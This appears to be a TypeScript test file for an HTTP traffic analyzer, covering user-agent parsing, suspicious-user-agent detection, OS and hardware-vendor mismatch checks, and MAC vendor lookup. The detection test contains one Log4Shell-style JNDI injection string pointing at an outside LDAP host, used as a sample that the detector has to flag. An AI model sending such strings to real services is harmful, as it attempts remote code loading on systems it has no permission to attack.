import assert from "node:assert/strict";
import { loadMacVendors, MacVendorTable, parseUserAgent } from "../../../core/mod.ts";
import {
  incompatibility,
  isDifferentUserAgent,
  isSuspiciousUserAgent,
} from "../../../modules/http_analyzer/user_agent_checks.ts";

const UA = {
  winChrome:
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  winEdge:
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61",
  ie8: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)",
  macSafari:
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
  iphone:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
  android:
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
  linuxFirefox: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
  curl: "curl/7.68.0",
  cryptoApi: "Microsoft-CryptoAPI/6.1",
};

Deno.test("parseUserAgent reads OS and browser of common user agents", () => {
  assert.deepEqual(parseUserAgent(UA.winChrome), {
    osType: "Windows",
    osName: "Windows 10",
    family: "windows",
    browser: "Chrome",
    browserVersion: "120.0.0.0",
  });
  assert.equal(parseUserAgent(UA.winEdge).browser, "Edge");
  assert.equal(parseUserAgent(UA.ie8).browser, "Internet Explorer");
  assert.equal(parseUserAgent(UA.ie8).osName, "Windows 7");
  const mac = parseUserAgent(UA.macSafari);
  assert.equal(mac.osName, "Mac OS X 10.15.7");
  assert.equal(mac.browser, "Safari");
  assert.equal(mac.family, "apple");
  const ios = parseUserAgent(UA.iphone);
  assert.equal(ios.osType, "iOS");
  assert.equal(ios.osName, "iOS 17.1");
  assert.equal(parseUserAgent(UA.android).family, "android");
  assert.equal(parseUserAgent(UA.android).browser, "Chrome");
  assert.equal(parseUserAgent(UA.linuxFirefox).family, "linux");
  assert.equal(parseUserAgent(UA.curl).browser, "curl");
  assert.equal(parseUserAgent(UA.curl).osType, "");
  assert.equal(parseUserAgent(UA.cryptoApi).osType, "Windows");
  assert.equal(parseUserAgent("").browser, "");
});

Deno.test("suspicious user agents: jndi, httpsend, token pb; not Dropbox", () => {
  assert.ok(isSuspiciousUserAgent("${jndi:ldap://xyz.xyz.com:39356/a}"));
  assert.ok(isSuspiciousUserAgent("HTTPSEND"));
  assert.ok(isSuspiciousUserAgent("pb"));
  assert.ok(isSuspiciousUserAgent("Mozilla/4.0 (pb)"));
  assert.ok(!isSuspiciousUserAgent("DropboxDesktopClient/180.4.5751 (Windows; 10)"));
  assert.ok(!isSuspiciousUserAgent(UA.winChrome));
});

Deno.test("incompatibility: Safari off Apple hardware, Windows on Apple, Android on Microsoft", () => {
  assert.match(
    incompatibility(parseUserAgent(UA.macSafari), "Liteon Technology Corporation")!,
    /Safari/,
  );
  assert.match(incompatibility(parseUserAgent(UA.winChrome), "Apple, Inc.")!, /Windows/);
  assert.ok(incompatibility(parseUserAgent(UA.android), "Microsoft Corporation"));
  assert.equal(incompatibility(parseUserAgent(UA.macSafari), "Apple, Inc."), undefined);
  assert.equal(incompatibility(parseUserAgent(UA.iphone), "Apple, Inc."), undefined);
  // A vendor bound to no OS family (a PC maker) fits any non-Safari UA.
  assert.equal(
    incompatibility(parseUserAgent(UA.winChrome), "Liteon Technology Corporation"),
    undefined,
  );
  assert.equal(incompatibility(parseUserAgent(UA.linuxFirefox), "Apple, Inc."), undefined);
});

Deno.test("isDifferentUserAgent compares OS kinds, so two iPhone UAs are one device", () => {
  const first = { ua: UA.iphone, info: parseUserAgent(UA.iphone) };
  const other = UA.iphone.replace("17_1", "16_0");
  assert.equal(isDifferentUserAgent(first, other, parseUserAgent(other)), false);
  assert.equal(isDifferentUserAgent(first, UA.winChrome, parseUserAgent(UA.winChrome)), true);
  assert.equal(isDifferentUserAgent(first, UA.iphone, first.info), false);
});

Deno.test("MAC vendor table from oui-data, offline; random and broadcast MACs have none", async () => {
  const t = await loadMacVendors();
  assert.ok(t.size > 50_000);
  assert.equal(t.lookup("3c:07:54:01:02:03"), "Apple, Inc.");
  assert.equal(t.lookup("50-5B-C2-DB-C3-17"), "Liteon Technology Corporation");
  assert.equal(t.lookup("ff:ff:ff:ff:ff:ff"), undefined);
  assert.equal(t.lookup("3e:07:54:01:02:03"), undefined, "locally administered");
  assert.equal(t.lookup("not a mac"), undefined);
  // A 36-bit block inside a larger assignment wins over it.
  const small = new MacVendorTable({ "AABBCC": "Big\nx", "AABBCCDDE": "Small\ny" });
  assert.equal(small.lookup("a8:bb:cc:dd:ef:00"), undefined);
  assert.equal(small.lookup("aa:bb:cc:dd:e0:00"), undefined, "AA… is locally administered");
  const small2 = new MacVendorTable({ "00BBCC": "Big\nx", "00BBCCDDE": "Small\ny" });
  assert.equal(small2.lookup("00:bb:cc:dd:e0:00"), "Small");
  assert.equal(small2.lookup("00:bb:cc:00:00:00"), "Big");
});
